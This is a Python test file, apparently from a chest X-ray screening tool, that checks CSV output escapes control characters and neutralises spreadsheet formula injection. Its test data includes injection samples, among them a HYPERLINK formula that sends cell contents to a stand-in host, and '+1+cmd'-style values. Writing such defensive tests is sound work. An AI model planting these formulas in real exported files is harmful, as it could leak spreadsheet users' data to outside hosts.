"""CSV cells: control characters escaped, formulas neutralised (OWASP), numbers kept, cells bounded."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from cxrscreen.outputs.worklist import read_csv, write_csv
from cxrscreen.safetext import (
    FORBIDDEN,
    MAX_CELL_CHARS,
    escape_forbidden,
    has_forbidden,
    neutralise_cell,
    unneutralise,
)


@pytest.mark.parametrize("char", ["\x00", "\t", "\r", "\n", "\x1b", "\x7f", "\x85", "\u2028", "\u2029",
                                  "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
                                  "\u2069"])
def test_forbidden_characters_are_escaped_visibly(char: str):
    assert has_forbidden(f"a{char}b")
    out = escape_forbidden(f"a{char}b")
    assert not has_forbidden(out) and out.startswith("a\\") and out.endswith("b")


def test_ordinary_text_is_untouched():
    for text in ("Müller^Zoë=山田^太郎", "O'Brien", "1.2.840.10008", "DOE^JANE", "Иванов", "شيماء"):
        assert not has_forbidden(text) and neutralise_cell(text) == text


@pytest.mark.parametrize("text", ["=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "'=x", "'plain"])
def test_formula_starts_are_prefixed_and_undone(text: str):
    cell = neutralise_cell(text)
    assert cell == "'" + text and unneutralise(cell) == text


def test_tab_and_cr_starts_are_escaped():
    assert neutralise_cell("\t=1") == "\\t=1" and neutralise_cell("\r@x") == "\\r@x"


def test_numbers_and_blanks_are_not_cells_to_guard():
    for value in (-0.5, 0.25, 3, None, float("nan")):
        assert neutralise_cell(value) is value


def test_long_cells_are_cut_and_marked():
    cell = neutralise_cell("x" * (MAX_CELL_CHARS * 5))
    assert len(cell) == MAX_CELL_CHARS and cell.endswith("[truncated]")


def test_write_csv_round_trip(tmp_path: Path):
    df = pd.DataFrame({
        "rank": [1, 2, 3, 4],
        "probability": [0.9, None, -0.25, 0.1],  # numbers the tool writes (a negative one too) stay numbers
        "PatientID": ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd", "'quoted", "Müller"],
        "path": ["a\nb.dcm", "=cmd.dcm", "x\x00y.dcm", "ok.dcm"],
        "paths": ["p" * 200_000, "", "q", "r"],
    })
    path = write_csv(df, tmp_path / "w.csv")
    with open(path, newline="", encoding="utf-8") as fh:  # the csv module's default field limit
        rows = list(csv.reader(fh))
    assert len(rows) == 5 and len(path.read_text(encoding="utf-8").splitlines()) == 5
    text = [c for row in rows[1:] for c in row[2:]]
    assert not any(FORBIDDEN.search(c) for row in rows for c in row)
    assert not any(c and c[0] in "=+-@\t\r" for c in text)
    assert [r[1] for r in rows[1:]] == ["0.9", "", "-0.25", "0.1"]  # unquoted, unprefixed: numeric in a spreadsheet
    assert rows[1][2].startswith("'=HYPERLINK") and rows[3][2] == "''quoted"
    back = read_csv(path)
    assert back["PatientID"].tolist() == df["PatientID"].tolist()
    assert back["path"].tolist() == ["a\\nb.dcm", "=cmd.dcm", "x\\x00y.dcm", "ok.dcm"]
    assert len(back["paths"][0]) == MAX_CELL_CHARS
    for engine in ("c", "python"):
        assert len(pd.read_csv(path, engine=engine)) == 4
